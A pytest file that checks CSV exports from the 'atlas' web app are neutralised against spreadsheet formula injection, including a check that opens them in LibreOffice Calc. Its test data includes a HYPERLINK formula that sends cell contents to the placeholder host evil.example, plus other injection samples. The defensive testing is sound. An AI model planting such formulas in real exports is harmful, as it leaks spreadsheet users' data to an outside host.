"""CSV exports that are safe to open in a spreadsheet (atlas.core.tables): cells that would run
as formulas are neutralised, files start with a byte order mark, the Excel flavour uses `;` and
German headers, and `atlas import` reads an export back unchanged.

With LibreOffice installed (`soffice`, as .ci/run installs it), the downloads are opened in
LibreOffice Calc with formula evaluation on, as an office would open them, and no cell of them
may come out as a formula; a file written without the neutralising is opened the same way to
show that the check sees a formula when there is one.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path
from xml.etree import ElementTree

import pytest

from atlas.core import tables
from atlas.core.projects import clean_record
from atlas.web.app import create_app
from atlas.web.extensions import get_store
from tests.support.databases import drop_database, fresh_database_url

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
PROJECTS = [
    {"id": "formel", "name": EVIL, "organisation": "+49 511 1234", "description": "@SUM(1+1)"},
    {"id": "minus", "name": "-Minus- Projekt", "organisation": "'=schon zitiert"},
    {"id": "gravenhage", "name": "'s Gravenhage Treff", "organisation": "@home e. V."},
    {"id": "normal", "name": "Sprachcafé Lüneburg", "organisation": "Verein e. V."},
]
TRICKY = [
    EVIL,
    "=1+1",
    "+1",
    "-1",
    "@A1",
    "\tx",
    "\rx",
    "'=x",
    "''+x",
    "'s Gravenhage",
    "'",
    "",
    "Café",
    "a=b",
]


@pytest.mark.parametrize("text", TRICKY)
def test_neutralised_cells_never_start_a_formula_and_read_back_as_they_were(text):
    cell = tables.neutralise(text)
    assert not cell.startswith(tables.FORMULA_START)
    assert tables.restore(cell) == text
    if not text.startswith(tables.FORMULA_START + ("'",)):
        assert cell == text  # ordinary text is written as it is


def test_numbers_stay_numbers_and_the_excel_flavour_is_german():
    out = io.StringIO()
    table = tables.Table(out, ["name", "lat", "count", "ok"], tables.EXCEL, {"name": "Name"})
    table.row(["-x", -1.5, -3, True])
    assert out.getvalue() == "\ufeffName;lat;count;ok\n'-x;-1,5;-3;ja\n"
    out = io.StringIO()
    tables.Table(out, ["lat", "ok"]).row([-1.5, False])
    assert out.getvalue() == "\ufefflat,ok\n-1.5,false\n"


@pytest.fixture
def app(instance):
    app = create_app({"TESTING": True})
    store = get_store(app)
    store.create_schema()
    store.save_all(
        [
            clean_record(
                {**p, "fields": "sprache", "lat": 53.25 + i / 100, "lon": 10.41}, f"test {i}"
            )
            for i, p in enumerate(PROJECTS)
        ]
    )
    return app


@pytest.fixture
def client(app):
    return app.test_client()


def rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def test_project_downloads_are_neutralised_with_a_byte_order_mark(client):
    response = client.get("/regionen/lueneburg/projekte.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    header, *lines = rows(response.data)
    by_id = {line[0]: dict(zip(header, line)) for line in lines}
    assert by_id["formel"]["name"] == "'" + EVIL
    assert by_id["formel"]["organisation"] == "'+49 511 1234"
    assert by_id["formel"]["description"] == "'@SUM(1+1)"
    assert by_id["minus"]["name"] == "'-Minus- Projekt"
    assert by_id["minus"]["organisation"] == "''=schon zitiert"
    assert by_id["gravenhage"]["name"] == "'s Gravenhage Treff"
    assert by_id["normal"]["name"] == "Sprachcafé Lüneburg"
    for line in lines:
        assert not any(cell.startswith(tables.FORMULA_START) for cell in line), line


def test_the_excel_flavour_has_semicolons_german_headers_and_decimal_commas(client):
    response = client.get("/regionen/lueneburg/projekte-excel.csv")
    assert response.status_code == 200
    assert 'filename="projekte-lueneburg-excel.csv"' in response.headers["Content-Disposition"]
    header, *lines = rows(response.data, ";")
    assert header[:4] == ["Kennung", "Name", "Träger", "Beschreibung"]
    assert header[-2:] == ["Breite", "Länge"]
    formel = next(dict(zip(header, line)) for line in lines if line[0] == "formel")
    assert formel["Name"] == "'" + EVIL and formel["Breite"] == "53,25"
    assert formel["Testdaten"] == "nein"
    districts = client.get("/regionen/lueneburg/kreise-excel.csv")
    header, *lines = rows(districts.data, ";")
    assert header[:3] == ["Kreisschlüssel", "Landkreis", "Einwohner"]
    assert "Sprache je 100.000 Einw." in header
    assert any("," in cell for line in lines for cell in line)  # decimal commas
    for url in (
        "/regionen/lueneburg/luecken-excel.csv",
        "/regionen/lueneburg/weisse-flecken-excel.csv?field=sprache",
        "/regionen/lueneburg/kreise.csv",
        "/regionen/lueneburg/luecken.csv",
        "/regionen/lueneburg/weisse-flecken.csv",
    ):
        response = client.get(url)
        assert response.status_code == 200 and response.data.startswith(b"\xef\xbb\xbf"), url
    page = client.get("/regionen/lueneburg").get_data(as_text=True)
    assert 'href="/regionen/lueneburg/projekte-excel.csv"' in page
    assert 'href="/regionen/lueneburg/kreise-excel.csv"' in page
    assert client.get("/regionen/lueneburg/projekte.excel").status_code == 404


def test_cli_export_is_neutralised_and_imports_back_unchanged(app, cli, tmp_path, monkeypatch):
    out = tmp_path / "export.csv"
    assert cli("export", "--format", "csv", "--output", out).exit_code == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\n'=HYPERLINK(" not in data
    assert ",\"'=HYPERLINK(" in data.decode("utf-8")
    excel = cli("export", "--format", "excel")
    assert excel.exit_code == 0 and excel.stdout.startswith("\ufeffKennung;Name;")

    other_url = fresh_database_url() or f"sqlite:///{tmp_path / 'other.sqlite3'}"
    monkeypatch.setenv("ATLAS_DATABASE_URL", other_url)
    other = create_app({"TESTING": True})
    from atlas import cli as atlas_cli

    result = other.test_cli_runner().invoke(atlas_cli.group(), args=["import", str(out)])
    assert result.exit_code == 0, result.output
    names = {p.id: (p.name, p.organisation, p.description) for p in get_store(app).projects()}
    copied = {p.id: (p.name, p.organisation, p.description) for p in get_store(other).projects()}
    assert copied == names and copied["minus"][0] == "-Minus- Projekt"
    get_store(other).engine.dispose()
    if other_url.startswith("postgresql"):
        drop_database(other_url)


# --- LibreOffice Calc ---------------------------------------------------------------------------

SOFFICE = shutil.which("soffice")
_NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def calc_cells(path: Path, delimiter: str, language: int, tmp_path: Path) -> list[dict]:
    """Open a CSV in LibreOffice Calc as an office would (UTF-8, formulas evaluated) and return
    its cells from the saved flat ODS: text and formula (None if the cell is no formula)."""
    options = f"CSV:{ord(delimiter)},34,76,1,,{language},false,true,false,false,false,-1,true"
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            f"--infilter={options}",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path / "calc"),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    tree = ElementTree.parse(tmp_path / "calc" / (path.stem + ".fods"))
    formula = f"{{{_NS['table']}}}formula"
    return [
        {
            "text": "".join(p.text or "" for p in cell.findall("text:p", _NS)),
            "formula": cell.get(formula),
        }
        for cell in tree.iter(f"{{{_NS['table']}}}table-cell")
        if cell.findall("text:p", _NS)
    ]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_calc_runs_no_formula_from_the_downloads(client, tmp_path):
    # The check has teeth: the same cell without the neutralising is a formula in Calc.
    raw = tmp_path / "raw.csv"
    raw.write_text('name\n"' + EVIL.replace('"', '""') + '"\n', encoding="utf-8")
    assert any(c["formula"] for c in calc_cells(raw, ",", 1033, tmp_path))

    for url, delimiter, language in (
        ("/regionen/lueneburg/projekte.csv", ",", 1033),
        ("/regionen/lueneburg/projekte-excel.csv", ";", 1031),
    ):
        path = tmp_path / Path(url).name
        path.write_bytes(client.get(url).data)
        cells = calc_cells(path, delimiter, language, tmp_path)
        assert [c for c in cells if c["formula"]] == [], url
        texts = [c["text"] for c in cells]
        assert texts[0] in ("id", "Kennung"), "the byte order mark must not end up in a cell"
        assert (
            "'" + EVIL in texts and "'-Minus- Projekt" in texts and "Sprachcafé Lüneburg" in texts
        )
        # Coordinates are numbers in the spreadsheet (the decimal comma in the Excel flavour).
        assert any(re.fullmatch(r"53[.,]25", t) for t in texts)
